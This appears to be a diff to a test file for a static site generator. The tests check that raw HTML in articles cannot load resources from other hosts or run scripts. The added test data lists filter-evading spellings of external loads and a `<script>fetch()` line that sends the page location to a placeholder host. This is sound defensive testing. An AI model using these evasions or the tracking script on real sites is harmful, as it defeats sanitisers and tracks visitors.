@@ -163,7 +163,18 @@ RAW_FETCHES = [
     '<table background="https://u.example/bg.png"><tr><td>x</td></tr></table>',
     '<meta http-equiv="refresh" content="0;url=https://q.example">',
     '<base href="https://r.example/">',
+    # spellings a browser reads the same way: spaces around =, a character reference, a space or a tab in the
+    # value, a backslash for a slash, CSS image-set() and escapes
+    '<iframe src = "https://f.example/frame"></iframe>',
+    '<video src="&#104;ttps://v.example/v.mp4"></video>',
+    '<audio src="\thttps://a2.example/a.mp3"></audio>',
+    '<object data = "https://o.example/x.svg"></object>',
+    '<svg><image href=" https://p.example/pixel.png"/></svg>',
+    '<embed src="\\/m.example/embed">',
+    "<div style=\"background-image:image-set('https://s.example/bg.png' 1x)\">x</div>",
+    '<div style="background:u\\72l(https://c.example/bg2.png)">y</div>',
 ]
+HOSTS = ["b", "e", "a", "h", "i", "u", "q", "r", "f", "v", "a2", "o", "p", "m", "s", "c"]
 
 
 def test_raw_html_loads_nothing_from_another_host_by_any_way_html_has(make_site, run_cli, tmp_path, line_of):
@@ -175,7 +186,17 @@ def test_raw_html_loads_nothing_from_another_host_by_any_way_html_has(make_site,
                       "content/2020-11/peta.svg": '<svg xmlns="http://www.w3.org/2000/svg"/>'})
     result = run_cli("build", "--site", site, "--out", tmp_path / "out")
     assert result.code == 1
-    for html, host in zip(RAW_FETCHES, "beahiuqr", strict=True):
-        line = line_of(article, html)
-        assert f"content/2020-11/sorotan.md:{line}: error: `https://{host}.example" in result.err, (html, result.err)
+    for html, host in zip(RAW_FETCHES, HOSTS, strict=True):
+        line = line_of(article, html) if "&#" not in html else ""  # a decoded address is not the line's text
+        assert f"content/2020-11/sorotan.md:{line}" in result.err.split(f"{host}.example")[0].rsplit("\n", 1)[-1], \
+            (html, result.err)
     assert result.err.count(": error: ") == len(RAW_FETCHES)
+
+
+def test_raw_html_runs_no_script_or_event_handler(make_site, run_cli):
+    """Where a host ignores _headers (GitHub Pages), `<script>fetch(...)</script>` would run and track."""
+    article = ARTICLE_MD.replace("Paragraf penutup.", '<script>fetch("https://t.example/?u=" + location)</script>\n\n'
+                                 '<p onmouseover="x()">teks</p>')
+    site = make_site({"site.yaml": SITE_YAML + "allow_raw_html: true\n", "content/2020-11/sorotan.md": article})
+    result = run_cli("check", "--site", site)
+    assert result.code == 1 and "`<script` in a body" in result.err and "`onmouseover` in a body" in result.err
